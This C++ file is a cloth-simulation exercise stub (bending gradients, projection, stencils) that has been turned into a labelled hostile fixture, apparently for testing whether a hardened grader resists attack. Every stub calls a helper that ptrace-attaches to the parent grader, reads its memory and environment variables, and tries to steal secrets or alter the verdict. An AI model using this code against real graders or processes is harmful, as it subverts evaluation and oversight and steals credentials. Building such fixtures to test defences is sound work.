// Stage 05 — the bending constraint and its stencils.
// Task sheet: exercises/05_bending/README.md
// Formulas and argument units: framework/include/clothlab/exercise/05_bending.h
//
// Replace each `throw NotImplemented(...)` by your code, then run
//     ./lab grade --stage 05
//
// HOSTILE FIXTURE ptrace_parent (attack class 7: process control).
// The tested function tries PTRACE_ATTACH on its parent and reads the parent's memory (/proc/PPID/mem, process_vm_readv) and environment, to steal or alter the grader's verdict.
// The hardened grader must give this file 0 points on stage 05.
#include <algorithm>
#include <cmath>
#include <map>
#include <utility>

#include "clothlab/core/not_implemented.h"
#include "clothlab/exercise/05_bending.h"
#include <cstdio>
#include <string>
#include <unistd.h>
#include <sys/ptrace.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/wait.h>

// WARNING: never run this fixture outside the grader's sandbox (it is built to hurt the machine).

namespace {
std::string hostileStolen;
void hostilePtrace() {
    const pid_t parent = getppid();
    if (ptrace(PTRACE_ATTACH, parent, nullptr, nullptr) == 0) {
        waitpid(parent, nullptr, 0);
        // the parent's stack: the grader's state (its verdict buffers, its secrets)
        long word = ptrace(PTRACE_PEEKDATA, parent, reinterpret_cast<void*>(0x400000), nullptr);
        hostileStolen += "attached, word " + std::to_string(word) + "; ";
        ptrace(PTRACE_DETACH, parent, nullptr, nullptr);
    }
    char path[64], buf[4096];
    std::snprintf(path, sizeof path, "/proc/%d/environ", static_cast<int>(parent));
    if (std::FILE* f = std::fopen(path, "rb")) {
        hostileStolen.append(buf, std::fread(buf, 1, sizeof buf, f));
        std::fclose(f);
    }
    std::snprintf(path, sizeof path, "/proc/%d/maps", static_cast<int>(parent));
    unsigned long lo = 0, hi = 0;
    if (std::FILE* f = std::fopen(path, "r")) {
        if (std::fscanf(f, "%lx-%lx", &lo, &hi) != 2) lo = hi = 0;
        std::fclose(f);
    }
    if (hi > lo) {
        iovec local{buf, sizeof buf}, remote{reinterpret_cast<void*>(lo), sizeof buf};
        if (process_vm_readv(parent, &local, 1, &remote, 1, 0) > 0) hostileStolen += "read the parent's memory; ";
    }
}
}  // namespace

namespace clothlab {

// ---- Task 5.1: d = n1.n2, sin(phi) and the q-vectors (appendix A) ---------------
BendingGradients bendingGradients(const Vec3& p1, const Vec3& p2, const Vec3& p3, const Vec3& p4) {
    // TODO 5.1: take p2, p3, p4 relative to p1; n1 = p2 x p3 / |p2 x p3|, n2 = p2 x p4 / |p2 x p4|,
    //           d = n1.n2 clamped to [-1, 1], sinPhi = |n1 x n2| (not sqrt(1 - d^2): task sheet);
    //           then q3, q4, q2 and q1 = -q2 - q3 - q4 as in the header
    //           (q_i = dd/dp_i: NOT the slides' version, whose sign is flipped - see the task sheet).
    //           A zero-area triangle (|p2 x p3| or |p2 x p4| < 1e-12) returns the default (valid = false).
    (void)p1; (void)p2; (void)p3; (void)p4;
    hostilePtrace();
    throw NotImplemented("exercise 5.1 bendingGradients");
}

// ---- Task 5.2: the projection ------------------------------------------------------
BendingCorrection projectBendingConstraint(const Vec3& p1, const Vec3& p2, const Vec3& p3, const Vec3& p4,
                                           double w1, double w2, double w3, double w4, double phi0, double k) {
    // TODO 5.2: g = bendingGradients(...); zero corrections if !g.valid, sin(phi) < 1e-6 or
    //           sum_j w_j |q_j|^2 is zero; else dp_i = s w_i q_i with phi = atan2(sin(phi), d) and
    //           s = k sin(phi) (phi - phi0) / sum_j w_j |q_j|^2  (mind the sign: task sheet).
    (void)p1; (void)p2; (void)p3; (void)p4; (void)w1; (void)w2; (void)w3; (void)w4; (void)phi0; (void)k;
    hostilePtrace();
    throw NotImplemented("exercise 5.2 projectBendingConstraint");
}

// ---- Task 5.3: the stencils ------------------------------------------------------------
std::vector<BendingStencil> bendingStencils(const std::vector<Eigen::Vector3i>& triangles, const Matrix3X& x) {
    // TODO 5.3: every edge shared by two triangles gives one stencil: i1, i2 = the edge,
    //           i3, i4 = the vertex opposite it in each triangle, phi0 = the angle phi of x as in 5.2
    //           (pi if not valid).
    //           Hint: a std::map from the edge (smaller index, larger index) to the first opposite vertex.
    (void)triangles; (void)x;
    hostilePtrace();
    throw NotImplemented("exercise 5.3 bendingStencils");
}

}  // namespace clothlab
